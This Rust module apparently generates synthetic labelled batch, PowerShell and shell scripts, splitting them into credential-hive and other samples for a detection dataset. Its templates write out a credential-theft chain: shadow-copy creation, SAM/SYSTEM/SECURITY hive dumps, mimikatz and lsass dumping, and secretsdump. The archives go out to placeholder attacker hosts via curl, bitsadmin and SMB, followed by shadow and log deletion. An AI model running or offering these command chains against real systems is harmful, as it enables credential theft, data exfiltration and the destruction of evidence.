//! Scripts of several lines: make a shadow copy, take the hives, pack, send, clean up; short
//! ones and long ones with the act anywhere among ordinary lines; and the same for other files.

use crate::generate::family::{Family, Kind::Cmd, Kind::Ps, Kind::Sh};

const BATCH: &[&str] = &[
    concat!(
        "@echo off⏎«setlocal⏎¦setlocal enabledelayedexpansion⏎¦title {stem}⏎¦chcp 65001 ",
        ">nul⏎»{b}⏎{s1}⏎{b}⏎«{e}⏎»exit /b 0"
    ),
    concat!(
        r"@echo off⏎set OUT={dir.1}\{stem.1}⏎if not exist %OUT% mkdir ",
        "%OUT%⏎{so1}⏎{so2}⏎«{so3}⏎»{p}⏎{x}⏎{c}"
    ),
    "rem {comment}⏎{s1}⏎{s2}⏎«{s3}⏎»{p}⏎«{x}⏎»«{c}⏎»",
    concat!(
        "@echo off⏎net session >nul 2>&1⏎if %errorlevel% neq 0 (echo «Run as administrator¦need admin¦",
        "please elevate» & exit /b 1)⏎{b}⏎{s1}⏎«{s2}⏎»{e}"
    ),
    "@echo off⏎{b}⏎{b}⏎call :work⏎{b}⏎goto :eof⏎:work⏎{s1}⏎«{s2}⏎»exit /b",
    concat!(
        r#"set "d=%~dp0{stem}"⏎md "%d%"⏎for %%h in ({k1} {k2} {k3}) do reg save HKLM\%%h "#,
        r#""%d%\%%h.{anyext}" /y⏎{p}⏎{c}"#
    ),
    concat!(
        r#"for /f "tokens=4" %%i in ('vssadmin create shadow /for^=C: ^| find "Shadow Copy Volume"') do "#,
        r"set V=%%i⏎copy %V%\{t} {outfile}⏎«copy %V%\{t} {outdir}⏎»«vssadmin delete shadows /for=C: ",
        "/quiet»"
    ),
    concat!(
        r#"for /f "tokens=*" %%a in ('wmic shadowcopy call create Volume^="C:\" ^| find "ShadowID"') do "#,
        r#"set ID=%%a⏎for /f %%d in ('wmic shadowcopy get DeviceObject ^| find "GLOBALROOT"') do set "#,
        r"DEV=%%d⏎copy %DEV%\{t} {outdir}⏎{p}⏎{c}"
    ),
    concat!(
        "(echo set context persistent nowriters⏎echo add volume c: alias {alnum4.1}⏎echo create⏎echo ",
        "expose %%{alnum4.1}%% {alnum1.2}:) > {stem.1}.dsh⏎diskshadow /s {stem.1}.dsh⏎«copy¦robocopy /b¦",
        r"xcopy /h» {alnum1.2}:\{t} {outdir}⏎{p}⏎{c}"
    ),
    "@echo off⏎{b}⏎{b}⏎{b}⏎{b}⏎{s1}⏎{b}⏎{b}⏎{b}⏎{e}",
    "{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{s1}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}",
    "@echo off⏎{b}⏎{s1}⏎{s2}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{e}",
    ":: {comment}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{b}⏎{s1}⏎{e}",
];

const POSH: &[&str] = &[
    concat!(
        r#"«#Requires -RunAsAdministrator⏎¦param([string]$Out = "{psdir}\{stem}")⏎¦[CmdletBinding()] "#,
        r#"param()⏎¦$ErrorActionPreference = "«Stop¦SilentlyContinue»"⏎»$out = "{psdir}\{stem}"⏎New-Item "#,
        "-ItemType Directory -Path $out -Force | Out-Null⏎foreach ($h in '{k1}','{k2}'«,'{k3}'») {⏎    ",
        r#"«reg save "HKLM\$h" "$out\$h.{anyext}" /y | Out-Null¦& reg.exe save HKLM\$h $out\$h¦"#,
        r#"Start-Process reg -ArgumentList "save HKLM\$h $out\$h.hiv /y" -Wait "#,
        r#"-NoNewWindow»⏎}⏎Compress-Archive -Path $out\* -DestinationPath "$out.zip"«⏎{px}»«⏎Remove-Item "#,
        "$out -Recurse -Force»"
    ),
    "{pb}⏎{ps1}⏎{pb}⏎{ps2}⏎{px}",
    concat!(
        r#"$s1 = (Get-WmiObject -List Win32_ShadowCopy).Create("C:\", "ClientAccessible")⏎$s2 = "#,
        "Get-WmiObject Win32_ShadowCopy | Where-Object { $_.ID -eq $s1.ShadowID }⏎$d = $s2.DeviceObject ",
        r#"+ "\"⏎cmd /c mklink /d {link.1} "$d"⏎Copy-Item "{link.1}\{t}" {psout}⏎«Copy-Item "{link.1}\{t}" "#,
        "{psdir}⏎»$s2.Delete()⏎cmd /c rmdir {link.1}"
    ),
    concat!(
        "$vss = Get-CimClass Win32_ShadowCopy⏎$r = Invoke-CimMethod -CimClass $vss -MethodName Create ",
        r"-Arguments @{Volume='C:\'}⏎$dev = (Get-CimInstance Win32_ShadowCopy -Filter ",
        r#""ID='$($r.ShadowID)'").DeviceObject⏎[IO.File]::Copy("$dev\{t}", "{psdir}\{stem}")"#
    ),
    concat!(
        "function {fn} {⏎    [CmdletBinding()]⏎    param([string]$ComputerName = $env:COMPUTERNAME)⏎    ",
        "{pb}⏎    {ps1}⏎    {pb}⏎}⏎{fn}"
    ),
    concat!(
        "try {⏎    {ps1}⏎    {ps2}⏎} catch {⏎    Write-Warning $_.Exception.Message⏎} finally {⏎    ",
        "{pb}⏎}"
    ),
    concat!(
        r"$targets = Get-Content .\hosts.txt⏎foreach ($t in $targets) {⏎    Invoke-Command -ComputerName ",
        "$t -ScriptBlock {⏎        {ps1}⏎    }⏎    {pb}⏎}"
    ),
    concat!(
        "$session = New-PSSession -ComputerName {host} -Credential $cred⏎Invoke-Command -Session ",
        r"$session -ScriptBlock { {ps1} }⏎Copy-Item -FromSession $session -Path {dir}\{stem} -Destination ",
        ".⏎Remove-PSSession $session"
    ),
    concat!(
        r"<#⏎.SYNOPSIS⏎    {comment}⏎.EXAMPLE⏎    .\{stem}.ps1 -ComputerName ",
        "{host}⏎#>⏎{pb}⏎{pb}⏎{ps1}⏎{pb}⏎{pb}"
    ),
    concat!(
        "{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{ps1}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎",
        "{pb}"
    ),
    concat!(
        "{pb}⏎{ps1}⏎{ps2}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}⏎{pb}",
        "⏎{pb}⏎{pb}⏎{pb}"
    ),
    concat!(
        "$action = New-ScheduledTaskAction -Execute '«cmd.exe¦powershell.exe»' -Argument '/c ",
        "{s1}'⏎Register-ScheduledTask -TaskName '{stem}' -Action $action -User 'SYSTEM' -RunLevel ",
        "Highest⏎Start-ScheduledTask '{stem}'⏎{pb}⏎Unregister-ScheduledTask '{stem}' -Confirm:$false"
    ),
];

const SHELL: &[&str] = &[
    concat!(
        "#!/bin/bash⏎«set -euo pipefail⏎»TARGET=${1:-{rhost}}⏎«USER={user}⏎PASS={password}⏎»{ub}⏎{us}⏎{ub",
        "}"
    ),
    r#"while read -r host; do⏎  «echo "[*] $host"⏎  »{usr}⏎done < «hosts.txt¦targets.txt¦ips»"#,
    "for ip in {ip} {ip} {ip}; do⏎  {usr2}⏎done",
    concat!(
        "DISK=$(lsblk -nro NAME,FSTYPE | awk '/ntfs/{print $1; exit}')⏎mkdir -p /mnt/{stem.1}⏎mount -o ",
        "ro /dev/$DISK /mnt/{stem.1}⏎cp /mnt/{stem.1}/{tu} {shdir}⏎umount /mnt/{stem.1}"
    ),
    "{ub}⏎{ub}⏎{us}⏎«{ub}⏎»{us2}",
    r#"python3 - <<'PY'⏎import subprocess⏎subprocess.run("{us}", shell=True)⏎PY"#,
    "#!/bin/sh⏎{ub}⏎{ub}⏎{ub}⏎{ub}⏎{ub}⏎{us}⏎{ub}⏎{ub}⏎{ub}⏎{ub}",
];

const ACTS: &[(&str, &str)] = &[
    (
        "s1",
        concat!(
            r"«reg save HKLM\{secret} {outfile}« /y»¦reg export HKLM\{secret} {dir}\{stem}.reg« /y»¦reg query ",
            r"HKLM\{inner} /s > {outfile}¦esentutl /y /vss {hivefile} /d {outfile}¦copy {shadowhive} ",
            r"{outfile}¦robocopy /b C:\Windows\System32\config {dir} SAM SYSTEM SECURITY¦{reg} save ",
            r#"HKLM\{secret} {outfile}¦pwdump7.exe > {outfile}¦mimikatz.exe "token::elevate" "lsadump::sam" "#,
            "exit > {outfile}»"
        ),
    ),
    ("s2", r"reg save HKLM\{whole} {outfile}« /y»"),
    ("s3", r"reg save HKLM\{whole} {outfile}« /y»"),
    ("so1", r#"reg save HKLM\{secret} "%OUT%\{outname}" /y"#),
    ("so2", r#"reg save HKLM\SYSTEM "%OUT%\{outname}" /y"#),
    ("so3", r#"reg save HKLM\SECURITY "%OUT%\{outname}" /y"#),
    ("k1", "«SAM¦sam»"),
    ("k2", "«SYSTEM¦system»"),
    ("k3", "«SECURITY¦security»"),
    ("t", r"Windows\{sys32}\config\{whole}"),
    ("tu", "«Windows/System32/config/SAM¦Windows/System32/config/{whole}»"),
    ("b", B),
    ("e", E),
    ("p", PACK),
    ("x", SEND),
    ("c", CLEAN),
    ("pb", PB),
    ("px", PX),
    ("ub", UB),
    ("fn", FN),
    (
        "ps1",
        concat!(
            r"«reg save HKLM\{secret} {psout}« /y»« | Out-Null»¦Copy-Item '{pshive}' {psout}« -Force»¦",
            r"[IO.File]::Copy('{shadowhive}', '{outfile}')¦Get-ChildItem HKLM:\{inner} -Recurse | Out-File ",
            r#"{psout}¦Invoke-NinjaCopy -Path '{pshive}' -LocalDestination {psout}¦cmd /c "reg save hklm\sam "#,
            r#"{outfile} && reg save hklm\system {outfile}"¦Invoke-PowerDump | Out-File {psout}»"#
        ),
    ),
    ("ps2", r"«reg save HKLM\SYSTEM {psout}¦reg save HKLM\{whole} {psout} /y»"),
    (
        "us",
        concat!(
            "«secretsdump.py {user}:{password}@{rhost}¦nxc smb {cidr} -u {user} -p {password} --sam¦reg.py ",
            r"{target} save -keyName 'HKLM\SAM' -o '\\{attacker}\{share}'¦cp {lxhive} {shdir}¦samdump2 ",
            r#"{syscopy} {samcopy} > {shout}¦wmiexec.py {target} "reg save HKLM\{secret} {outfile}"»"#
        ),
    ),
    ("us2", "«secretsdump.py -sam {samcopy} -system {syscopy} LOCAL¦samdump2 {syscopy} {samcopy}¦{us}»"),
    (
        "usr",
        concat!(
            "«secretsdump.py {domain}/{user}:{password}@$host« -outputfile $host»¦nxc smb $host -u {user} -H ",
            r"{nthash} --sam¦impacket-reg {user}:{password}@$host backup -o '\\{attacker}\{share}'¦",
            r"impacket-wmiexec {user}:{password}@$host 'reg save HKLM\SAM {dir}\{stem}'»"
        ),
    ),
    (
        "usr2",
        concat!(
            "«impacket-secretsdump -hashes {hashes} {user}@$ip¦crackmapexec smb $ip -u {user} -p {password} ",
            "--sam --local-auth¦smbclient //$ip/C$ -U {user}%{password} -c 'get ",
            "Windows/System32/config/RegBack/SAM'»"
        ),
    ),
];

const OTHERS: &[(&str, &str)] = &[
    (
        "s1",
        concat!(
            r"«reg save HKLM\SOFTWARE {outfile}« /y»¦reg export {otherreg} {dir}\{stem}.reg« /y»¦reg query ",
            r"HKLM\{syskey} /s > {outfile}¦esentutl /y /vss {otherfile} /d {outfile}¦copy {shadowother} ",
            r"{outfile}¦robocopy /b C:\Windows\NTDS {dir} ntds.dit¦{reg} save {otherreg} {outfile}¦",
            r#"procdump.exe -ma lsass.exe {outfile}¦mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "#,
            "exit > {outfile}¦wevtutil epl Security {outfile}¦copy {otherfile} {outfile}»"
        ),
    ),
    ("s2", r"reg save HKLM\SOFTWARE {outfile}« /y»"),
    ("s3", "reg save HKCU {outfile}« /y»"),
    ("so1", r#"reg save HKLM\SOFTWARE "%OUT%\{outname}" /y"#),
    ("so2", r#"reg export {otherreg} "%OUT%\{outname}" /y"#),
    ("so3", r#"reg save HKU\.DEFAULT "%OUT%\{outname}" /y"#),
    ("k1", "«SOFTWARE¦software»"),
    ("k2", r"«HARDWARE¦COMPONENTS¦Software\{vendor}»"),
    ("k3", r"«SYSTEM\CurrentControlSet\Services\{svcname}¦SYSTEM\CurrentControlSet\Control\Lsa¦DRIVERS»"),
    (
        "t",
        concat!(
            r"«Windows\NTDS\ntds.dit¦Users\{user}\Documents\{stem}.docx¦Windows\System32\config\SOFTWARE¦",
            r"{stem}\{stem}.mdf»"
        ),
    ),
    (
        "tu",
        concat!(
            "«Windows/NTDS/ntds.dit¦Users/{first}/NTUSER.DAT¦Windows/System32/config/SOFTWARE¦",
            "Windows/win.ini»"
        ),
    ),
    ("b", B),
    ("e", E),
    ("p", PACK),
    ("x", SEND),
    ("c", CLEAN),
    ("pb", PB),
    ("px", PX),
    ("ub", UB),
    ("fn", FN),
    (
        "ps1",
        concat!(
            r"«reg save HKLM\SOFTWARE {psout}« /y»« | Out-Null»¦Copy-Item '{psother}' {psout}« -Force»¦",
            r"[IO.File]::Copy('{shadowother}', '{outfile}')¦Get-ChildItem HKLM:\{otherkey} -Recurse | ",
            r"Out-File {psout}¦Invoke-NinjaCopy -Path 'C:\Windows\NTDS\ntds.dit' -LocalDestination {psout}¦",
            r#"cmd /c "reg save hkcu {outfile} && reg save hklm\software {outfile}"¦Invoke-Kerberoast | "#,
            "Out-File {psout}¦Get-ADUser -Filter * -Properties SamAccountName | Export-Csv {psout}»"
        ),
    ),
    ("ps2", r"«reg save HKLM\SOFTWARE {psout}¦reg export {otherreg} {psout} /y»"),
    (
        "us",
        concat!(
            "«secretsdump.py -just-dc {user}:{password}@{rhost}¦nxc smb {cidr} -u {user} -p {password} ",
            "--shares¦nxc smb {cidr} -u {user} -p {password} --lsa¦reg.py {target} query -keyName ",
            r"'HKLM\SOFTWARE'¦cp {lxother} {shdir}¦samtools view {stem}.sam > {shout}¦wmiexec.py {target} ",
            r#""reg save {otherreg} {outfile}"»"#
        ),
    ),
    ("us2", "«secretsdump.py -ntds ntds.dit -system {stem} LOCAL¦hashcat -m 1000 {shout} rockyou.txt¦{us}»"),
    (
        "usr",
        concat!(
            "«secretsdump.py -just-dc-ntlm {domain}/{user}:{password}@$host« -outputfile $host»¦nxc smb ",
            "$host -u {user} -H {nthash} --lsa¦impacket-reg {user}:{password}@$host query -keyName ",
            r"'HKLM\SOFTWARE\{vendor}'¦impacket-wmiexec {user}:{password}@$host 'reg save HKLM\SOFTWARE ",
            r"{dir}\{stem}'¦impacket-samrdump {user}:{password}@$host»"
        ),
    ),
    (
        "usr2",
        concat!(
            "«impacket-secretsdump -just-dc -hashes {hashes} {user}@$ip¦crackmapexec smb $ip -u {user} -p ",
            "{password} --shares --local-auth¦smbclient //$ip/C$ -U {user}%{password} -c 'get ",
            "Users/{first}/{stem}.docx'»"
        ),
    ),
];

const B: &str = concat!(
    "«echo {stem} >> {stem}.log¦whoami /all¦hostname¦ipconfig /all > {outfile}¦systeminfo¦net user¦",
    "net localgroup administrators¦tasklist /v¦ping -n {2..9} 127.0.0.1 >nul¦timeout /t {1..60} ",
    r"/nobreak¦if exist {dir}\{stem} del /q {dir}\{stem}¦set {alnum4}={stem}¦net use «Z:¦Y:» ",
    r"\\{plainhost}\{share}¦sc query {svcname}¦net stop {svcname}¦net start {svcname}¦reg add ",
    r"HKLM\{softkey} /v {stem} /t REG_DWORD /d {0..1} /f¦reg query HKLM\{syskey}¦mkdir {dir}\{stem}¦",
    "copy {docfile} {dir}¦echo %date% %time% >> {stem}.log¦rem {comment}¦:: {comment}¦schtasks ",
    "/query /fo list¦wevtutil cl Application¦dir {dir} /b¦if errorlevel 1 echo failed¦vssadmin list ",
    "shadows¦powershell -c Get-Date¦netstat -ano > {outfile}¦driverquery /v¦gpresult /r¦quser¦cls¦cd ",
    r"/d {dir}¦pushd {dir}¦popd¦ver¦net view \\{plainhost}¦nltest /dclist:{domain}¦icacls ",
    r"{dir}\{stem} /grant {user}:F¦attrib +h {dir}\{stem}¦for %%i in (1 2 3) do echo %%i»"
);

const E: &str = r#"«exit /b¦pause¦echo done¦del "%~f0"¦goto :eof¦endlocal¦shutdown /r /t {10..90}¦exit»"#;

const PACK: &str = concat!(
    r#"«tar -cf {dir}\{stem}.tar {dir}\{stem}¦makecab /f {stem}.ddf¦"C:\Program Files\7-Zip\7z.exe" a "#,
    r"{dir}\{stem}.7z {dir}\{stem}\*¦powershell Compress-Archive {dir}\{stem} {dir}\{stem}.zip¦rar a ",
    r"-hp{password} {stem}.rar {dir}\{stem}¦echo packed¦certutil -encode {dir}\{stem} {stem}.b64»"
);

const SEND: &str = concat!(
    r#"«copy {dir}\{stem}.zip \\{attacker}\{share}\¦curl -F "file=@{dir}\{stem}.zip" {url}¦curl -T "#,
    r"{dir}\{stem}.7z http://{attacker}/¦bitsadmin /transfer {stem} /upload {url} {dir}\{stem}.zip¦",
    r"ftp -s:{stem}.txt {ip}¦robocopy {dir}\{stem} \\{host}\{share}\{stem} /e¦rclone copy ",
    r"{dir}\{stem}.zip remote:{stem}¦scp {dir}\{stem}.zip {first}@{ip}:/tmp/»"
);

const CLEAN: &str = concat!(
    r"«rmdir /s /q {dir}\{stem}¦del /f /q {dir}\{stem}*¦vssadmin delete shadows /all /quiet¦wevtutil ",
    r"cl Security¦cipher /w:{dir}¦del {stem}.dsh¦net use Z: /delete /y¦sdelete -p 3 {dir}\{stem}»"
);

const PB: &str = concat!(
    r#"«Write-Host '{comment}'¦Write-Verbose "step {1..9}"¦$date = Get-Date -Format yyyyMMdd¦"#,
    "Get-Process | Sort-Object CPU -Descending | Select-Object -First {3..20}¦Get-Service {svcname}¦",
    "$log = Join-Path {psdir} '{stem}.log'¦Start-Sleep -Seconds {1..60}¦# {comment}¦if (-not ",
    "(Test-Path {psdir})) { New-Item -ItemType Directory {psdir} }¦$cred = Get-Credential¦",
    "Import-Module ActiveDirectory¦Get-EventLog -LogName System -Newest {5..90}¦Get-ChildItem ",
    r#"{psdir} -Filter *.log¦Set-Location {psdir}¦$PSVersionTable¦Add-Content $log "$(Get-Date) ok"¦"#,
    "Get-LocalUser¦Get-LocalGroupMember Administrators¦Get-NetTCPConnection -State Established¦",
    r"Test-NetConnection {host} -Port {port}¦Get-ItemProperty HKLM:\{softkey}¦Stop-Service {svcname} ",
    "-Force¦[Net.ServicePointManager]::SecurityProtocol = 'Tls12'¦$i++¦Get-HotFix | Select -First 5¦",
    "Get-WmiObject Win32_OperatingSystem¦$x = 1..{3..9} | ForEach-Object { $_ * 2 }¦",
    "Set-ExecutionPolicy Bypass -Scope Process -Force¦Get-ADComputer -Filter * | Select Name¦",
    "Resolve-DnsName {fqdn}»"
);

const PX: &str = concat!(
    r#"«Invoke-WebRequest -Uri {url} -Method Post -InFile "$out.zip"¦Copy-Item "$out.zip" "#,
    r#"\\{attacker}\{share}\¦(New-Object Net.WebClient).UploadFile('{url}', "$out.zip")¦Write-Output "#,
    r#""saved to $out"¦Send-MailMessage -To {first}@{company}.com -Attachments "$out.zip"¦Remove-Item "#,
    "$MyInvocation.MyCommand.Path»"
);

const UB: &str = concat!(
    r#"«echo "[*] {comment}"¦mkdir -p {shdir}¦nmap -sV -p 445 {rhost}¦sleep {1..30}¦export LHOST={ip}¦"#,
    "# {comment}¦ls -la {shdir}¦ping -c 1 {rhost}¦cd {shdir}¦nxc smb {cidr}¦date >> {stem}.log¦ip a¦",
    "source venv/bin/activate¦pip install -r requirements.txt¦smbclient -L //{rhost} -N¦enum4linux ",
    "{rhost}¦tar czf {stem}.tgz {shdir}¦cat {stem}.txt | sort -u > {shout}»"
);

const FN: &str = "«Invoke-{alnum5}¦Get-{alnum6}¦Backup-Keys¦Start-Work¦Export-All¦Do-It»";

pub const FAMILIES: &[Family] = &[
    Family::act("batch-scripts", "batch-script-hive", "batch-script-other", Cmd, BATCH).slots(ACTS).weight(18),
    Family::other("batch-scripts", "batch-script-other", Cmd, BATCH).slots(OTHERS).weight(16),
    Family::act("posh-scripts", "posh-script-hive", "posh-script-other", Ps, POSH).slots(ACTS).weight(16),
    Family::other("posh-scripts", "posh-script-other", Ps, POSH).slots(OTHERS).weight(14),
    Family::act("shell-scripts", "shell-script-hive", "shell-script-other", Sh, SHELL).slots(ACTS),
    Family::other("shell-scripts", "shell-script-other", Sh, SHELL).slots(OTHERS).weight(9),
];
